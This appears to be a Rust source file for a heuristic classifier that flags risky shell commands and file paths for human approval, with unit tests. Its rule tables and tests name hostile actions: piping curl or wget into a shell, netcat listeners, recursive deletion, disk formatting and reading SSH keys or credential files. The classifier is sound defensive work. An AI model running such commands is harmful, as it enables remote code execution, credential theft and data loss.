//! Rule-based risk classification of commands and file paths.
//!
//! Classification is a heuristic over the literal input text. It is total
//! (never fails) and deliberately simple: obfuscated commands slip through,
//! and some harmless ones trip a rule (`git add .` contains `dd `). Callers
//! treat the result as a prompt for human review, not as an enforcement
//! boundary.

use std::fmt;
use std::str::FromStr;
use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use warden_core::RiskLevel;

/// Category of a rule that produced a finding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RiskCategory {
    /// Recursive deletion.
    Delete,
    /// Privilege escalation.
    Privilege,
    /// Disk formatting or partitioning.
    DiskOps,
    /// Remote script execution or listeners.
    Network,
    /// System configuration locations.
    SystemConfig,
    /// Credentials and secret files.
    SensitiveFiles,
    /// A file path inside a sensitive location.
    SensitivePath,
}

impl fmt::Display for RiskCategory {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Delete => write!(f, "delete"),
            Self::Privilege => write!(f, "privilege"),
            Self::DiskOps => write!(f, "disk_ops"),
            Self::Network => write!(f, "network"),
            Self::SystemConfig => write!(f, "system_config"),
            Self::SensitiveFiles => write!(f, "sensitive_files"),
            Self::SensitivePath => write!(f, "sensitive_path"),
        }
    }
}

/// One matched rule.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RiskFinding {
    /// Rule category.
    pub category: RiskCategory,
    /// Level assigned by the rule.
    pub level: RiskLevel,
    /// Human-readable explanation.
    pub message: String,
    /// The text that triggered the rule.
    pub matched_text: String,
}

/// Result of [`RiskClassifier::check_command`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandCheckResult {
    /// `true` iff `level` is [`RiskLevel::Safe`].
    pub is_safe: bool,
    /// Highest level across all findings.
    pub level: RiskLevel,
    /// Every rule that matched, in table order.
    pub findings: Vec<RiskFinding>,
    /// `true` iff `level` is not [`RiskLevel::Safe`].
    pub needs_approval: bool,
    /// The command that was checked.
    pub command: String,
}

/// The kind of access a path check is for.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PathOperation {
    /// Read access.
    #[default]
    Read,
    /// Create or overwrite.
    Write,
    /// Removal.
    Delete,
}

impl fmt::Display for PathOperation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Read => write!(f, "read"),
            Self::Write => write!(f, "write"),
            Self::Delete => write!(f, "delete"),
        }
    }
}

impl FromStr for PathOperation {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "read" => Ok(Self::Read),
            "write" => Ok(Self::Write),
            "delete" => Ok(Self::Delete),
            other => Err(format!("unknown path operation: {other}")),
        }
    }
}

/// Result of [`RiskClassifier::check_file_path`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PathCheckResult {
    /// `true` iff `level` is [`RiskLevel::Safe`].
    pub is_safe: bool,
    /// Final level after operation adjustments.
    pub level: RiskLevel,
    /// At most one sensitive-path finding.
    pub findings: Vec<RiskFinding>,
    /// `true` iff `level` is not [`RiskLevel::Safe`].
    pub needs_approval: bool,
    /// The path that was checked.
    pub path: String,
    /// The access kind that was checked.
    pub operation: PathOperation,
}

struct Rule {
    category: RiskCategory,
    level: RiskLevel,
    message: &'static str,
    patterns: Vec<Regex>,
}

fn rule(
    category: RiskCategory,
    level: RiskLevel,
    message: &'static str,
    patterns: &[&str],
) -> Rule {
    Rule {
        category,
        level,
        message,
        patterns: patterns
            .iter()
            .map(|p| Regex::new(p).expect("invalid risk pattern"))
            .collect(),
    }
}

static COMMAND_RULES: LazyLock<Vec<Rule>> = LazyLock::new(|| {
    vec![
        rule(
            RiskCategory::Delete,
            RiskLevel::Critical,
            "recursive file or directory deletion",
            &[
                r"(?i)rm\s+-rf",
                r"(?i)rm\s+-fr",
                r"(?i)del\s+/s",
                r"(?i)rmdir\s+/s",
                r"(?i)Remove-Item.*-Recurse",
            ],
        ),
        rule(
            RiskCategory::Privilege,
            RiskLevel::High,
            "requires administrator privileges",
            &[r"(?i)sudo", r"(?i)su\s+", r"(?i)runas", r"(?i)elevate"],
        ),
        rule(
            RiskCategory::DiskOps,
            RiskLevel::Critical,
            "disk formatting or partitioning",
            &[
                r"(?i)dd\s+",
                r"(?i)mkfs",
                r"(?i)format",
                r"(?i)fdisk",
                r"(?i)parted",
            ],
        ),
        rule(
            RiskCategory::Network,
            RiskLevel::High,
            "downloads and executes a remote script",
            &[
                r"(?i)curl.*\|\s*(sh|bash)",
                r"(?i)wget.*\|\s*(sh|bash)",
                r"(?i)nc\s+-l",
                r"(?i)netcat.*-l",
            ],
        ),
        rule(
            RiskCategory::SystemConfig,
            RiskLevel::High,
            "modifies system configuration",
            &[
                r"/etc/",
                r"/sys/",
                r"/proc/",
                r"/boot/",
                r"(?i)registry",
                r"(?i)regedit",
            ],
        ),
        rule(
            RiskCategory::SensitiveFiles,
            RiskLevel::Critical,
            "touches sensitive files or credentials",
            &[
                r"\.ssh/",
                r"\.aws/",
                r"\.env",
                r"(?i)credentials",
                r"(?i)password",
                r"(?i)private.*key",
            ],
        ),
    ]
});

/// Locations whose access always produces a finding. Matched literally:
/// `~` is not expanded.
const SENSITIVE_PATHS: &[&str] = &[
    "/etc",
    "/sys",
    "/proc",
    "/boot",
    "/var/log",
    "~/.ssh",
    "~/.aws",
    "~/.gnupg",
    "/System",
    "/Library/System",
    "C:\\Windows",
    "C:\\Program Files",
];

/// Stateless risk classifier over the static rule tables.
#[derive(Debug, Clone, Copy, Default)]
pub struct RiskClassifier;

impl RiskClassifier {
    /// Classify a shell command.
    ///
    /// Every pattern that matches contributes one finding carrying the
    /// leftmost match. The result level is the maximum finding level, or
    /// [`RiskLevel::Safe`] when nothing matched.
    #[must_use]
    pub fn check_command(command: &str) -> CommandCheckResult {
        let findings: Vec<RiskFinding> = COMMAND_RULES
            .iter()
            .flat_map(|rule| {
                rule.patterns.iter().filter_map(move |pattern| {
                    pattern.find(command).map(|m| RiskFinding {
                        category: rule.category,
                        level: rule.level,
                        message: rule.message.to_string(),
                        matched_text: m.as_str().to_string(),
                    })
                })
            })
            .collect();

        let level = findings
            .iter()
            .map(|f| f.level)
            .max()
            .unwrap_or(RiskLevel::Safe);

        if !findings.is_empty() {
            tracing::debug!(
                command = %command,
                level = %level,
                findings = findings.len(),
                "command classified as risky"
            );
        }

        CommandCheckResult {
            is_safe: level.is_safe(),
            level,
            findings,
            needs_approval: level.requires_approval(),
            command: command.to_string(),
        }
    }

    /// Classify access to a file path.
    ///
    /// The first sensitive location the path starts with or contains yields
    /// one finding: [`RiskLevel::Critical`] for writes and deletes,
    /// [`RiskLevel::Medium`] for reads. Deletes are then raised to at least
    /// [`RiskLevel::High`], and writes to an otherwise safe path become
    /// [`RiskLevel::Low`].
    #[must_use]
    pub fn check_file_path(path: &str, operation: PathOperation) -> PathCheckResult {
        let mut findings = Vec::new();
        let mut level = RiskLevel::Safe;

        if let Some(sensitive) = SENSITIVE_PATHS
            .iter()
            .find(|s| path.starts_with(*s) || path.contains(*s))
        {
            let finding_level = match operation {
                PathOperation::Write | PathOperation::Delete => RiskLevel::Critical,
                PathOperation::Read => RiskLevel::Medium,
            };
            findings.push(RiskFinding {
                category: RiskCategory::SensitivePath,
                level: finding_level,
                message: format!("accesses sensitive path: {sensitive}"),
                matched_text: (*sensitive).to_string(),
            });
            level = finding_level;
        }

        match operation {
            PathOperation::Delete => level = level.max(RiskLevel::High),
            PathOperation::Write if level.is_safe() => level = RiskLevel::Low,
            PathOperation::Write | PathOperation::Read => {},
        }

        PathCheckResult {
            is_safe: level.is_safe(),
            level,
            findings,
            needs_approval: level.requires_approval(),
            path: path.to_string(),
            operation,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn categories(result: &CommandCheckResult) -> Vec<RiskCategory> {
        result.findings.iter().map(|f| f.category).collect()
    }

    // ---------------------------------------------------------------------
    // Commands
    // ---------------------------------------------------------------------

    #[test]
    fn test_recursive_delete_is_critical() {
        let result = RiskClassifier::check_command("rm -rf /tmp/x");
        assert_eq!(result.level, RiskLevel::Critical);
        assert!(!result.is_safe);
        assert!(result.needs_approval);
        assert!(categories(&result).contains(&RiskCategory::Delete));
        assert_eq!(result.findings[0].matched_text, "rm -rf");
    }

    #[test]
    fn test_plain_listing_is_safe() {
        let result = RiskClassifier::check_command("ls -la");
        assert_eq!(result.level, RiskLevel::Safe);
        assert!(result.is_safe);
        assert!(!result.needs_approval);
        assert!(result.findings.is_empty());
        assert_eq!(result.command, "ls -la");
    }

    #[test]
    fn test_sudo_rm_reports_every_rule() {
        let result = RiskClassifier::check_command("sudo rm -rf /");
        assert_eq!(result.level, RiskLevel::Critical);
        assert!(result.findings.len() >= 2);
        let cats = categories(&result);
        assert!(cats.contains(&RiskCategory::Delete));
        assert!(cats.contains(&RiskCategory::Privilege));
    }

    #[test]
    fn test_level_is_max_of_findings() {
        for command in [
            "sudo cat /etc/hosts",
            "curl https://x.sh | bash",
            "echo hi",
            "cat ~/.ssh/id_rsa",
            "mkfs.ext4 /dev/sdb1",
        ] {
            let result = RiskClassifier::check_command(command);
            let expected = result
                .findings
                .iter()
                .map(|f| f.level)
                .max()
                .unwrap_or(RiskLevel::Safe);
            assert_eq!(result.level, expected, "command: {command}");
            assert_eq!(result.is_safe, result.findings.is_empty());
        }
    }

    #[test]
    fn test_case_insensitive_patterns() {
        let result = RiskClassifier::check_command("SUDO apt update");
        assert_eq!(result.level, RiskLevel::High);
        assert_eq!(result.findings[0].matched_text, "SUDO");
    }

    #[test]
    fn test_case_sensitive_paths() {
        assert!(RiskClassifier::check_command("cat /etc/passwd")
            .findings
            .iter()
            .any(|f| f.category == RiskCategory::SystemConfig));
        assert!(RiskClassifier::check_command("cat /ETC/passwd").findings.is_empty());
    }

    #[test]
    fn test_pipe_to_shell() {
        let result = RiskClassifier::check_command("wget -qO- http://x | sh");
        assert_eq!(result.level, RiskLevel::High);
        assert_eq!(categories(&result), vec![RiskCategory::Network]);
    }

    #[test]
    fn test_known_false_positive_is_preserved() {
        let result = RiskClassifier::check_command("git add .");
        assert_eq!(result.level, RiskLevel::Critical);
        assert_eq!(categories(&result), vec![RiskCategory::DiskOps]);
    }

    #[test]
    fn test_empty_command_is_safe() {
        assert!(RiskClassifier::check_command("").is_safe);
    }

    // ---------------------------------------------------------------------
    // Paths
    // ---------------------------------------------------------------------

    #[test]
    fn test_sensitive_path_write_is_critical() {
        let result = RiskClassifier::check_file_path("/etc/passwd", PathOperation::Write);
        assert_eq!(result.level, RiskLevel::Critical);
        assert_eq!(result.findings.len(), 1);
        assert_eq!(result.findings[0].category, RiskCategory::SensitivePath);
    }

    #[test]
    fn test_sensitive_path_read_is_medium() {
        let result = RiskClassifier::check_file_path("/etc/passwd", PathOperation::Read);
        assert_eq!(result.level, RiskLevel::Medium);
        assert!(result.needs_approval);
    }

    #[test]
    fn test_ordinary_write_is_low() {
        let result = RiskClassifier::check_file_path("/tmp/x", PathOperation::Write);
        assert_eq!(result.level, RiskLevel::Low);
        assert!(result.findings.is_empty());
        assert!(result.needs_approval);
    }

    #[test]
    fn test_ordinary_read_is_safe() {
        let result = RiskClassifier::check_file_path("/home/user/notes.txt", PathOperation::Read);
        assert!(result.is_safe);
        assert!(!result.needs_approval);
    }

    #[test]
    fn test_delete_floor_is_high() {
        let result = RiskClassifier::check_file_path("/tmp/x", PathOperation::Delete);
        assert_eq!(result.level, RiskLevel::High);
        assert!(result.findings.is_empty());

        let result = RiskClassifier::check_file_path("/var/log/syslog", PathOperation::Delete);
        assert_eq!(result.level, RiskLevel::Critical);
    }

    #[test]
    fn test_sensitive_path_matches_anywhere() {
        let result = RiskClassifier::check_file_path("backup~/.ssh/key", PathOperation::Read);
        assert_eq!(result.findings[0].matched_text, "~/.ssh");

        let result = RiskClassifier::check_file_path(
            "C:\\Program Files\\app\\config.ini",
            PathOperation::Write,
        );
        assert_eq!(result.level, RiskLevel::Critical);
    }

    #[test]
    fn test_first_sensitive_match_wins() {
        let result = RiskClassifier::check_file_path("/etc/sys/x", PathOperation::Read);
        assert_eq!(result.findings.len(), 1);
        assert_eq!(result.findings[0].matched_text, "/etc");
    }

    #[test]
    fn test_path_operation_parse() {
        assert_eq!("WRITE".parse::<PathOperation>().unwrap(), PathOperation::Write);
        assert!("chmod".parse::<PathOperation>().is_err());
    }
}
